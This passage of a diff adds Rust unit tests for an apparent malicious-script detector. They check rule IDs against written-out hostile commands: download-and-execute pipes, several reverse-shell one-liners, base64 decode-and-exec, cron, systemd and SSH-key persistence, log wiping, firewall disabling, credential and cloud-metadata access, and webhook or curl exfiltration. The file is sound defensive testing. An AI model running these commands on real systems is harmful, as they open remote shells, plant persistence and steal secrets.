+    }
+
+    #[test]
+    fn download_and_run() {
+        assert!(fires(
+            "curl -fsSL http://x.y/i.sh | sudo bash",
+            "download_pipe_interpreter"
+        ));
+        assert!(fires(
+            "wget -qO- http://h/p | sh -s",
+            "download_pipe_interpreter"
+        ));
+        assert!(fires(
+            "bash -c \"$(curl -fsSL https://h/install)\"",
+            "download_pipe_interpreter"
+        ));
+        assert!(fires(
+            "python3 <(curl -s http://h/x.py)",
+            "download_pipe_interpreter"
+        ));
+        assert!(!fires(
+            "curl -o out.tgz https://h/x.tgz && tar xf out.tgz",
+            "download_pipe_interpreter"
+        ));
+        assert!(fires(
+            "wget http://h/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
+            "download_then_chmod_x"
+        ));
+        assert!(fires(
+            "wget http://h/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
+            "chmod_x_in_tmp"
+        ));
+        assert!(fires(
+            "wget http://h/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
+            "exec_from_tmp"
+        ));
+        assert!(fires("curl -o /dev/shm/k http://h/k", "download_to_tmp"));
+    }
+
+    #[test]
+    fn reverse_shells() {
+        assert!(fires("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "dev_tcp"));
+        assert!(fires(
+            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+            "shell_io_redirect"
+        ));
+        assert!(fires("nc -e /bin/sh 10.0.0.1 4242", "netcat_shell"));
+        assert!(fires(
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
+            "netcat_shell"
+        ));
+        assert!(!fires("rsync -av src/ dst/", "netcat_shell"));
+        assert!(fires(
+            "socat tcp-connect:1.2.3.4:4444 exec:/bin/sh,pty",
+            "socat_shell"
+        ));
+        let py = "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")";
+        for id in [
+            "python_socket_shell",
+            "pty_spawn",
+            "python_socket",
+            "shell_escape_spawn",
+        ] {
+            assert!(fires(py, id), "{id} on {py}");
+        }
+    }
+
+    #[test]
+    fn decode_and_exec() {
+        assert!(fires(
+            "echo ZWNobyBoaQ== | base64 -d | bash",
+            "shell_decode_exec"
+        ));
+        assert!(fires(
+            "eval \"$(echo aWQ= | base64 --decode)\"",
+            "shell_decode_exec"
+        ));
+        assert!(fires(
+            "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))",
+            "python_decode_exec"
+        ));
+        assert!(fires("exec(zlib.decompress(b'x'))", "python_decode_exec"));
+        assert!(!fires(
+            "data = base64.b64decode(s)\nprint(data)",
+            "python_decode_exec"
+        ));
+        assert!(fires(
+            "x = '\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48'",
+            "hex_escaped_bytes"
+        ));
+    }
+
+    #[test]
+    fn persistence() {
+        assert!(fires(
+            "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
+            "cron_persistence"
+        ));
+        assert!(fires(
+            "echo '@reboot root /tmp/x' >> /etc/crontab",
+            "cron_persistence"
+        ));
+        assert!(!fires("crontab -l", "cron_persistence"));
+        assert!(fires(
+            "cat > /etc/systemd/system/x.service <<EOF",
+            "systemd_initd_persistence"
+        ));
+        assert!(fires(
+            "echo /usr/lib/x.so > /etc/ld.so.preload",
+            "ld_so_preload"
+        ));
+        assert!(fires(
+            "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
+            "ssh_authorized_keys"
+        ));
+        assert!(fires(
+            "echo 'nc -e /bin/sh h 1' >> ~/.bashrc",
+            "shell_rc_persistence"
+        ));
+    }
+
+    #[test]
+    fn defense_evasion_and_impact() {
+        assert!(fires(
+            "./xmrig -o stratum+tcp://pool:3333 -u wallet",
+            "crypto_miner"
+        ));
+        assert!(fires("history -c; unset HISTFILE", "history_wipe"));
+        assert!(fires("cat /dev/null > /var/log/auth.log", "log_wipe"));
+        assert!(fires("rm -rf /var/log/*", "log_wipe"));
+        assert!(fires(
+            "setenforce 0; systemctl stop firewalld",
+            "security_tools_disabled"
+        ));
+        assert!(fires("ufw disable", "security_tools_disabled"));
+        assert!(!fires("systemctl stop nginx", "security_tools_disabled"));
+        assert!(fires("chattr +i /etc/ld.so.preload", "chattr_lock"));
+        assert!(fires(
+            "pkill -f xmrig; pkill -f kdevtmpfsi",
+            "kill_competitors"
+        ));
+    }
+
+    #[test]
+    fn credentials_and_exfil() {
+        assert!(fires("cat /etc/shadow", "credential_access"));
+        assert!(fires(
+            "curl http://169.254.169.254/latest/meta-data/iam/",
+            "cloud_metadata"
+        ));
+        assert!(fires(
+            "requests.post('https://discord.com/api/webhooks/1/x', data=d)",
+            "exfil_service"
+        ));
+        assert!(fires("curl -F 'f=@/etc/passwd' http://h/up", "curl_upload"));
+    }
+
+    #[test]
+    fn raw_ip_excludes_loopback() {
+        assert!(fires("curl http://45.9.148.3/x", "raw_ip_url"));
+        assert!(!fires("curl http://127.0.0.1:8080/health", "raw_ip_url"));
+        assert!(!fires("curl http://169.254.169.254/", "raw_ip_url"));
+    }
+
+    #[test]
+    fn obfuscation() {
+        let chrs = "x=chr(105)+chr(109)+chr(112)+chr(111)+chr(114)+chr(116)+chr(32)+chr(111)";
+        assert!(fires(chrs, "python_chr_obfuscation"));
+        assert!(fires("exec('tropmi'[::-1])", "string_reversal"));
+        assert!(fires("c''url http://h | sh", "shell_quote_splitting"));
+        assert!(fires(
+            "__import__('os').system('id')",
+            "python_dynamic_import"
+        ));
+        assert!(fires(
+            "a=\"xyz\"; ${a:0:1}${a:1:1}${a:2:1}${a:0:1}",
+            "shell_var_slicing"
+        ));
+    }
+
+    #[test]
+    fn benign_scripts_stay_quiet() {
+        let script = "#!/bin/sh\nset -e\nif [ -f /etc/default/foo ]; then . /etc/default/foo; fi\nexec /usr/sbin/foo --config /etc/foo.conf \"$@\"\n";
+        assert!(fired(script).is_empty(), "{:?}", fired(script));
+        let py = "import argparse\n\ndef main():\n    p = argparse.ArgumentParser()\n    p.add_argument('x')\n    print(p.parse_args().x)\n";
+        assert!(fired(py).is_empty(), "{:?}", fired(py));
+    }
+}
